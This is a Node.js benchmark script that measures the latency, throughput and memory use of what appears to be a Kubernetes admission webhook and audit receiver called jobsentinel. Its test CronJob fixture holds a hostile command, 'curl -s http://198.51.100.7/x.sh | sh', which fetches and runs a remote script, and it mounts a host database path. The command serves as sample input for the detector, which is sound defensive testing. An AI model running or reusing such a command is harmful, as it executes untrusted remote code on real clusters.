// `jobsentinel serve` on loopback: AdmissionReview latency at concurrency 16 (goal p99 <= 50 ms),
// beside an idle HTTPS echo server as the floor (TLS + HTTP cost alone) and the analysis alone (the
// core's reviewAdmission, no network); audit batches of 400 events per second, each batch new
// requests (a batch sent again is not judged twice); server RSS under load. Latency at c=16 depends
// on what else the machine runs: the load average before and after is printed beside the figures.
// Bounded: a few seconds per measurement.
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync } from 'node:fs';
import { createServer, request } from 'node:https';
import { availableParallelism, loadavg, tmpdir } from 'node:os';
import { join } from 'node:path';
import { startServer } from '../packages/cli/dist/serve/server.js';
import { reviewAdmission } from '../packages/core/dist/index.js';

const dir = mkdtempSync(join(tmpdir(), 'jobsentinel-bench-'));
execFileSync('openssl', ['req', '-x509', '-newkey', 'rsa:2048', '-nodes', '-days', '1', '-keyout', join(dir, 'k'), '-out', join(dir, 'c'), '-subj', '/CN=localhost', '-addext', 'subjectAltName=IP:127.0.0.1'], { stdio: 'ignore' });
const cert = readFileSync(join(dir, 'c'));
const key = readFileSync(join(dir, 'k'));
const SECONDS = Number(process.env.BENCH_SECONDS ?? 3);

const cronjob = { apiVersion: 'batch/v1', kind: 'CronJob', metadata: { name: 'backup', namespace: 'ops' }, spec: { schedule: '*/5 * * * *', jobTemplate: { spec: { template: { spec: { restartPolicy: 'OnFailure', containers: [{ name: 'b', image: 'alpine:3.20', command: ['/bin/sh', '-c', 'apk add curl && curl -s http://198.51.100.7/x.sh | sh; tar czf /backup/db.tgz /data'], volumeMounts: [{ name: 'd', mountPath: '/data' }] }], volumes: [{ name: 'd', hostPath: { path: '/var/lib/db' } }] } } } } } };
const reviewTemplate = JSON.stringify({ apiVersion: 'admission.k8s.io/v1', kind: 'AdmissionReview', request: { uid: 'u-NUMBER', kind: { group: 'batch', version: 'v1', kind: 'CronJob' }, operation: 'CREATE', namespace: 'ops', object: JSON.parse(JSON.stringify(cronjob).replace('db.tgz', 'db-NUMBER.tgz').replace('"name":"backup"', '"name":"backup-NUMBER"')) } });
// A new object and script every time, as a cluster sends them: the same pod spec again would be answered from the analysis' memo.
let reviews = 0;
const nextReview = () => reviewTemplate.replaceAll('NUMBER', String(++reviews));
const event = (index, round) => ({ kind: 'Event', apiVersion: 'audit.k8s.io/v1', level: 'Request', auditID: `id-${round}-${index}`, stage: 'ResponseComplete', verb: index % 4 === 0 ? 'create' : 'get', requestURI: '/apis/batch/v1/namespaces/ops/cronjobs', user: { username: 'u' }, objectRef: { resource: index % 4 === 0 ? 'cronjobs' : 'pods', namespace: 'ops', name: `c${index}`, apiGroup: 'batch', apiVersion: 'v1' }, responseStatus: { code: 201 }, requestObject: index % 4 === 0 ? cronjob : undefined });
// Distinct audit IDs in every batch, as kube-apiserver sends them: the receiver drops requests it has already reported.
const batchTemplate = JSON.stringify({ kind: 'EventList', apiVersion: 'audit.k8s.io/v1', items: Array.from({ length: 400 }, (_, index) => event(index, 'ROUND')) });
let round = 0;
const nextBatch = () => batchTemplate.replaceAll('"auditID":"id-ROUND-', `"auditID":"id-${++round}-`);

const agent = new (await import('node:https')).Agent({ keepAlive: true, maxSockets: 16, ca: cert });
function post(port, path, body) {
  return new Promise((resolve, reject) => {
    const started = performance.now();
    const req = request({ host: '127.0.0.1', port, method: 'POST', path, agent, headers: { 'content-type': 'application/json', 'content-length': Buffer.byteLength(body) } }, (response) => {
      response.resume();
      response.on('end', () => (response.statusCode === 200 ? resolve(performance.now() - started) : reject(new Error(`HTTP ${response.statusCode}`))));
    });
    req.on('error', reject);
    req.end(body);
  });
}

function quantiles(latencies) {
  latencies.sort((a, b) => a - b);
  const at = (q) => latencies[Math.min(latencies.length - 1, Math.floor(q * latencies.length))].toFixed(1);
  return { count: latencies.length, p50: at(0.5), p99: at(0.99), perSecond: (latencies.length / SECONDS).toFixed(0) };
}

async function load(port, path, body, concurrency) {
  const latencies = [];
  const until = performance.now() + SECONDS * 1000;
  const bodyOf = typeof body === 'function' ? body : () => body;
  await Promise.all(Array.from({ length: concurrency }, async () => {
    while (performance.now() < until) latencies.push(await post(port, path, bodyOf()));
  }));
  return quantiles(latencies);
}

/** The analysis alone: the core answering the reviews one after the other, no TLS or HTTP. */
function analysisOnly() {
  const latencies = [];
  const until = performance.now() + SECONDS * 1000;
  while (performance.now() < until) {
    const started = performance.now();
    if (reviewAdmission(nextReview()).status !== 200) throw new Error('review refused');
    latencies.push(performance.now() - started);
  }
  return quantiles(latencies);
}

const loadBefore = loadavg()[0];
const analysis = analysisOnly();

const echo = createServer({ cert, key }, (req, res) => { req.resume(); req.on('end', () => res.end('{}')); });
await new Promise((resolve) => echo.listen(0, '127.0.0.1', resolve));
const floor = await load(echo.address().port, '/', nextReview, 16);
echo.close();

let emitted = 0;
const running = await startServer({ cert, key, host: '127.0.0.1', port: 0, enforce: false, maxBodyBytes: 12 << 20, log: () => {}, emit: () => emitted++ });
await load(running.address.port, '/validate', nextReview, 16); // warm-up
const validate = await load(running.address.port, '/validate', nextReview, 16);
const rssAfterValidate = process.memoryUsage().rss;
const audit = await load(running.address.port, '/audit', nextBatch, 4);
const rss = Math.max(rssAfterValidate, process.memoryUsage().rss);
await running.drain(1000);
agent.destroy();

const loadAfter = loadavg()[0];
const cores = availableParallelism();
const busy = Math.max(loadBefore, loadAfter) > cores;
console.log(`load average (1 min) ${loadBefore.toFixed(2)} before, ${loadAfter.toFixed(2)} after, on ${cores} cores${busy ? ': the machine is busy with other work, latencies at c=16 are inflated by it' : ''}`);
console.log(`analysis alone (reviewAdmission), sequential: p50 ${analysis.p50} ms, p99 ${analysis.p99} ms`);
console.log(`idle HTTPS echo (floor), c=16:   p50 ${floor.p50} ms, p99 ${floor.p99} ms, ${floor.perSecond}/s`);
console.log(`AdmissionReview /validate, c=16: p50 ${validate.p50} ms, p99 ${validate.p99} ms, ${validate.perSecond}/s (goal p99 <= 50 ms: ${Number(validate.p99) <= 50 ? 'met' : 'NOT met'})`);
console.log(`audit batches of 400 events:     ${audit.perSecond} batches/s (${audit.perSecond * 400} events/s), p99 ${audit.p99} ms, ${emitted} matches written (100 a batch)`);
console.log(`RSS under load (server and client in one process): ${(rss / 2 ** 20).toFixed(0)} MiB`);
